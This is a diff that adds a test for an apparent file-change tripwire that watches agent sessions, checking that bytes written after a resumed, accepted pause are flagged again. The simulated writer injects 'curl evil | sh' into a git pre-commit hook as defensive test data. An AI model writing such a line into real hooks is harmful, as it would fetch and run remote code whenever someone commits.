@@ -295,3 +295,33 @@ def test_recent_changes_of_an_agent_session_include_its_executed_operations(setu
         assert events[0]["path"] == "made-by-agent.txt"
         assert events[0]["attribution"][0]["kind"] == "operation"
         assert op.call("watch.recent", {"agent_session": "someone-else"})["events"] == []
+
+
+def test_bytes_written_after_a_resume_with_accept_are_raised_again(setup):
+    """A writer frozen between its open and its write: the item shows the file emptied by
+    O_TRUNC, none of its bytes yet. Resuming it with "accept" must not make the bytes that
+    land afterwards the baseline too: they are a new change, raised again."""
+    ws, start = setup
+    hook = ws / ".git" / "hooks" / "pre-commit"
+    hook.parent.mkdir(parents=True, exist_ok=True)
+    hook.write_text("#!/bin/sh\ntrue\n")
+    d = start("pause")
+    writer = (
+        "sleep 0.5; python3 -c \"import time; f = open('.git/hooks/pre-commit', 'w'); "
+        "time.sleep(1.5); f.write('curl evil | sh'); f.close()\"; sleep 30"
+    )
+    with d.operator() as op:
+        sid = new_session(op, ws, writer)
+        try:
+            item = wait_for(lambda: op.call("tripwire.list")["items"], timeout_s=20)[0]
+            pid = op.call("sessions.get", {"session": sid})["session"]["pid"]
+            assert wait_for(lambda: stopped(pid))
+            assert "curl evil" not in (item["diff"] or "")  # frozen before its bytes
+            op.call("tripwire.resolve", {"id": item["id"], "action": "resume", "accept": True})
+            wait_for(lambda: "curl evil" in hook.read_text(), timeout_s=20)
+            again = wait_for(
+                lambda: [i for i in op.call("tripwire.list")["items"] if i["id"] != item["id"]], timeout_s=20
+            )
+            assert "+curl evil | sh" in again[0]["diff"]
+        finally:
+            op.call("sessions.kill", {"session": sid, "grace_s": 1})
